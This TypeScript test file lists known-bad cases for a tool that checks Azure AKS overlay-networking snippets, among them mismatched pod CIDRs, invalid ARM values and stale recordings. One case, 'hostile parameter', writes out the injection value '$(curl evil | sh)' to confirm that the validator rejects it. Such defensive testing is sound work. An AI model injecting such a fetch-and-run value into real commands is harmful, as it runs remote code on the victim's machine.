import { isDeepStrictEqual } from 'node:util';
import { snippet } from '../../snippets/registry.ts';
import { facts as overlayFacts } from '../../snippets/create-overlay/facts.ts';
import { parseParameters } from '../../src/aks/parameters.ts';
import { stateOf, textHash } from '../../src/proof/state.ts';
import { bodyOfPulumi, reduceBody, reduceFacts } from '../agreement/reduce.ts';
import { stepFaults } from '../journeys/faults.ts';
import type { StepRecording } from '../journeys/recording.ts';
import { putBody } from './arm.ts';
import { thrown, type KnownBad } from './case.ts';

const pulumiInputs = {
  identity: { type: 'SystemAssigned' },
  agentPoolProfiles: [
    { name: 'nodepool1', mode: 'System', type: 'VirtualMachineScaleSets', osType: 'Linux', count: 2 },
  ],
  networkProfile: {
    networkPlugin: 'azure',
    networkPluginMode: 'overlay',
    networkDataplane: 'azure',
    podCidr: '10.244.0.0/16',
  },
};

const stated = reduceFacts(overlayFacts(parseParameters()));

function disagreement(changed: Readonly<Record<string, unknown>>): string {
  const reduced = reduceBody(bodyOfPulumi({ ...pulumiInputs, ...changed }));
  return isDeepStrictEqual(reduced, stated) ? '' : 'the faces disagree';
}

const ran: StepRecording = {
  snippet: 'connect/credentials',
  kind: 'az',
  sha256: '',
  status: 0,
  stdout: '',
  calls: [],
  arm: [],
  kubernetes: [],
  execs: [],
};
const step = { snippet: 'connect/credentials', kind: 'az' } as const;

/** Faces that disagree, programs that ARM refuses, recordings that prove nothing. */
export const faceCases: readonly KnownBad[] = [
  {
    name: 'a digit of the pod CIDR differs in one face',
    story:
      'The Pulumi tab shows 10.245, the CLI tab 10.244; the reader mixes both and the migration overlaps.',
    caught: () =>
      disagreement({ networkProfile: { ...pulumiInputs.networkProfile, podCidr: '10.245.0.0/16' } }),
    says: 'the faces disagree',
  },
  {
    name: 'Pulumi string outside the enum of ARM',
    story:
      "networkPlugin: 'azur' compiles, because Pulumi types it as string; Azure refuses it after minutes.",
    caught: () => putBody({ networkPlugin: 'azur' }),
    says: 'azur',
  },
  {
    name: 'Cilium dataplane with another policy engine',
    story: 'CiliumDataplaneRequiresNetworkPolicyCilium, reported since 2023.',
    caught: () =>
      putBody({
        networkPlugin: 'azure',
        networkPluginMode: 'overlay',
        networkDataplane: 'cilium',
        networkPolicy: 'calico',
      }),
    says: 'Cilium dataplane requires network policy cilium.',
  },
  {
    name: 'changed snippet without a new run',
    story: 'The green line under a snippet speaks of the text before the edit.',
    caught: () => {
      const face = { kind: 'az', text: 'az aks list\n' } as const;
      const sha256 = textHash('az aks list --output table\n');
      const faces = { 'a/b az': { sha256, levels: { ran: 'az' } } };
      return stateOf('a/b', face, false, [{ date: '2026-11-21', faces }])
        .levels.map(({ level, state }) => `${level} ${state}`)
        .join(', ');
    },
    says: 'ran not run',
  },
  {
    name: 'selector that matches nothing',
    story: 'kubectl get pods -l component=azure-cni ends with status 0 and finds nothing on any AKS cluster.',
    caught: () =>
      stepFaults(step, 'kubectl get pods\n', {
        ...ran,
        calls: [call('kubectl', 0, false, 'No resources found in kube-system namespace.')],
      }).join(),
    says: 'matched nothing in the cluster',
  },
  {
    name: 'hostile parameter',
    story: 'A shared link with clusterName=$(curl evil | sh).',
    caught: () =>
      thrown(() => snippet('clean-up/delete-group', parseParameters({ resourceGroup: '$(curl evil | sh)' }))),
    says: 'resourceGroup: expected 1 to 90 characters',
  },
];

function call(
  tool: string,
  status: number,
  printed: boolean,
  stderr: string,
): StepRecording['calls'][number] {
  return { words: [tool, 'x'], status, printed, stderr };
}
